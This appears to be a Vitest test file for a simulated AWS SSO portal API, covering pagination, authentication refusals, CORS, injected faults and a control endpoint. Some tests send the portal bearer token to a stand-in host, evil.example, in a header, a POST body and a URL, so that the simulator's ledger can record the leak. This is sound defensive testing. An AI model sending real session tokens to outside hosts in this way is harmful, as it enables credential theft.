import { get as httpsGet } from 'node:https';
import { afterAll, afterEach, beforeAll, describe, expect, onTestFinished, test, vi } from 'vitest';
import { agentFor, type Answered, ask } from '../../simulator/client';
import { Gate } from '../../simulator/gate';
import { openApiSession } from '../../simulator/sessions';
import { type Simulator, startSimulator } from '../../simulator/simulator';
import type { WorldPortal } from '../../simulator/world';

const host = 'https://portal.sso.eu-west-1.amazonaws.com';
const portalOrigin = 'https://d-1234567890.awsapps.com';

type Fields = Record<string, unknown>;

describe('the simulated portal API', () => {
  let simulator: Simulator;
  let portal: WorldPortal;
  let token: string;

  beforeAll(async () => {
    simulator = await startSimulator({ world: 'medium' });
    simulator.settings.throttle = { burst: 1_000, perSecond: 1_000 };
    const [first] = simulator.world.portals;
    if (!first) throw new Error('the world has no portal');
    portal = first;
    ({ token } = openApiSession(simulator, portal, 'portal'));
  });
  afterEach(() => {
    simulator.faults.clear();
    simulator.ledger.clear();
  });
  afterAll(() => simulator.close());

  function get(path: string, headers: Record<string, string> = {}): Promise<Answered> {
    return ask(simulator, host + path, { headers: { 'x-amz-sso_bearer_token': token, ...headers } });
  }

  async function json(path: string): Promise<Fields> {
    return JSON.parse((await get(path)).text) as Fields;
  }

  test('lists accounts and applications together, 98 a page, by next_token and paginationToken', async () => {
    const sizes: number[] = [];
    let next: unknown;
    do {
      const page = await json(`/instance/appinstances${next ? `?next_token=${String(next)}` : ''}`);
      sizes.push((page['result'] as unknown[]).length);
      next = page['paginationToken'];
    } while (next !== null);
    expect(sizes).toEqual([98, 98, 98, 300 + 12 - 3 * 98]);
  });

  test('says who is signed in and until when', async () => {
    const who = await json('/token/whoAmI');
    expect(who['expireDate']).toBe(simulator.apiSessions.get(token)?.endsAtMs);
    expect(who['directoryId']).toBe(portal.directoryId);
    expect((await json('/user'))['email']).toBe(portal.user.email);
  });

  test('accepts a token of OIDC for lists, not for the portal’s own calls', async () => {
    const { token: oidc } = openApiSession(simulator, portal, 'oidc');
    const as = { 'x-amz-sso_bearer_token': oidc };
    expect((await get('/assignment/accounts', as)).status).toBe(200);
    expect((await get('/instance/appinstances', as)).status).toBe(200);
    expect((await get('/token/whoAmI', as)).status).toBe(401);
  });

  test.each([
    ['no token', '/assignment/accounts', { 'x-amz-sso_bearer_token': '' }, 401],
    ['a malformed account', '/assignment/roles?account_id=12', {}, 400],
    ['an account of others', '/assignment/roles?account_id=999999999999', {}, 403],
    ['a foreign page token', '/assignment/accounts?next_token=zzz', {}, 400],
    ['a malformed instance', '/instance/appinstance/123/profiles', {}, 400],
    ['an unknown path', '/nothing', {}, 404],
  ] as const)('refuses %s', async (_, path, headers, status) => {
    expect((await get(path, headers)).status).toBe(status);
  });

  test('refuses a token at the API of another Region, and the wrong method', async () => {
    const headers = { 'x-amz-sso_bearer_token': token };
    const elsewhere = await ask(simulator, 'https://portal.sso.us-east-1.amazonaws.com/user', { headers });
    expect(elsewhere.status).toBe(401);
    expect((await ask(simulator, `${host}/assignment/accounts`, { method: 'POST', headers })).status).toBe(405);
  });

  test('lets portal pages call it from a browser, and no other page', async () => {
    const allowed = async (origin: string): Promise<string | null> =>
      (await ask(simulator, `${host}/user`, { method: 'OPTIONS', headers: { origin } })).headers.get(
        'access-control-allow-origin',
      );
    expect(await allowed(portalOrigin)).toBe(portalOrigin);
    expect(await allowed('https://evil.example')).toBeNull();
    expect(await allowed('chrome-extension://abcdefghijklmnop')).toBeNull();
  });

  test('writes down cookies on calls and tokens at hosts that have no business with them', async () => {
    await get('/user', { cookie: 'loginCsrfToken=1' });
    await ask(simulator, 'https://evil.example/', { headers: { 'x-amz-sso_bearer_token': token } });
    await ask(simulator, 'https://evil.example/', { method: 'POST', body: `x=${token}` });
    await ask(simulator, `https://console.aws.amazon.com/?t=${token}`);
    expect(simulator.ledger.apiCallsWithCookies()).toHaveLength(1);
    expect(simulator.ledger.tokensSeenElsewhere().map(({ secretsIn }) => secretsIn)).toEqual([
      ['x-amz-sso_bearer_token'],
      ['(body)'],
      ['(address)'],
    ]);
    expect(simulator.ledger.summary()).toMatchObject({ calls: { GetUser: { 200: 1 } }, tokensSeenElsewhere: 3 });
  });

  test('holds against the browser what others asked, and not what a test asks by itself', async () => {
    await get('/user', { cookie: 'loginCsrfToken=1' });
    expect(simulator.ledger.everWithCookies()).toEqual([]);
    const headers = { 'x-amz-sso_bearer_token': token, cookie: 'loginCsrfToken=1' };
    await new Promise((answered) => httpsGet(`${host}/user`, { headers, agent: agentFor(simulator) }, answered));
    expect(simulator.ledger.everWithCookies()).toHaveLength(1);
  });

  describe('with faults', () => {
    test('strikes after so many calls, so many times', async () => {
      simulator.faults.set({ op: 'GetUser', after: 1, times: 2, effect: { kind: 'status', status: 503 } });
      const seen: number[] = [];
      for (let call = 0; call < 4; call += 1) seen.push((await get('/user')).status);
      expect(seen).toEqual([200, 503, 503, 200]);
    });

    test('strikes for a time', async () => {
      vi.useFakeTimers({ toFake: ['Date'] });
      onTestFinished(() => void vi.useRealTimers());
      simulator.faults.set({ op: 'GetUser', forMs: 40, effect: { kind: 'status', status: 429 } });
      expect((await get('/user')).status).toBe(429);
      vi.advanceTimersByTime(40);
      expect((await get('/user')).status).toBe(429);
      vi.advanceTimersByTime(1);
      expect((await get('/user')).status).toBe(200);
    });

    test('strikes a share of the calls', async () => {
      simulator.faults.set({ op: 'GetUser', share: 0.25, effect: { kind: 'status', status: 429 } });
      for (let call = 0; call < 8; call += 1) await get('/user');
      expect(simulator.ledger.count('GetUser', 429)).toBe(2);
    });

    test('names the same next page for ever', async () => {
      simulator.faults.set({ op: 'ListAccounts', effect: { kind: 'repeat-token' } });
      const first = await json('/assignment/accounts');
      const second = await json(`/assignment/accounts?next_token=${String(first['nextToken'])}`);
      expect(second).toEqual(first);
    });

    test('empties lists, cuts answers, breaks connections, redirects', async () => {
      simulator.faults.set({ times: 1, effect: { kind: 'empty-list' } }, { times: 1, effect: { kind: 'truncate' } });
      expect(await json('/assignment/accounts')).toEqual({ nextToken: null, accountList: [] });
      await expect(json('/assignment/accounts')).rejects.toThrow(SyntaxError);
      simulator.faults.set({ effect: { kind: 'reset' } });
      await expect(get('/user')).rejects.toMatchObject({ code: 'ECONNRESET' });
      simulator.faults.set({ effect: { kind: 'redirect', status: 307, to: 'https://evil.example/' } });
      expect((await get('/user')).headers.get('location')).toBe('https://evil.example/');
    });

    test('holds an answer until it is let go', async () => {
      const gate = new Gate();
      simulator.faults.set({ effect: { kind: 'hold', gate } });
      const answered = get('/user');
      await gate.reached;
      expect(simulator.ledger.calls('GetUser').map(({ status }) => status)).toEqual([0]);
      gate.open();
      expect((await answered).status).toBe(200);
    });

    test('ends the session at a call', async () => {
      const { token: doomed } = openApiSession(simulator, portal, 'portal');
      simulator.faults.set({ after: 1, times: 1, effect: { kind: 'revoke' } });
      const as = { 'x-amz-sso_bearer_token': doomed };
      const seen: number[] = [];
      for (let call = 0; call < 3; call += 1) seen.push((await get('/user', as)).status);
      expect(seen).toEqual([200, 401, 401]);
    });

    test('tells another time than it is', async () => {
      simulator.settings.clockSkewMs = -3_600_000;
      const date = Date.parse((await get('/user')).headers.get('date') ?? '');
      simulator.settings.clockSkewMs = 0;
      expect(Math.round((Date.now() - date) / 60_000)).toBe(60);
    });
  });

  describe('steered over HTTP', () => {
    const control = (path: string): string => `https://127.0.0.1/_control${path}`;

    test('says what it holds', async () => {
      const { text } = await ask(simulator, control('/'));
      expect(JSON.parse(text)).toMatchObject({ portals: [{ startUrl: portal.startUrl, region: 'eu-west-1' }] });
    });

    test('takes settings and faults, and shows the ledger', async () => {
      await ask(simulator, control('/settings'), { method: 'PATCH', body: '{"errorType":"body-only"}' });
      const faults = JSON.stringify([{ op: 'GetUser', effect: { kind: 'status', status: 500 } }]);
      await ask(simulator, control('/faults'), { method: 'PUT', body: faults });
      expect((await get('/user')).status).toBe(500);
      const { headers } = await get('/nothing');
      expect(headers.get('x-amzn-errortype')).toBeNull();
      const { text } = await ask(simulator, control('/ledger?op=GetUser'));
      expect(JSON.parse(text)).toMatchObject([{ op: 'GetUser', status: 500 }]);
      simulator.settings.errorType = 'header';
    });

    test('refuses settings that it does not know, and pages of a browser', async () => {
      const unknown = await ask(simulator, control('/settings'), { method: 'PATCH', body: '{"nothing":1}' });
      expect(unknown.status).toBe(400);
      const page = await ask(simulator, control('/'), { headers: { origin: portalOrigin } });
      expect(page.status).toBe(403);
    });
  });
});
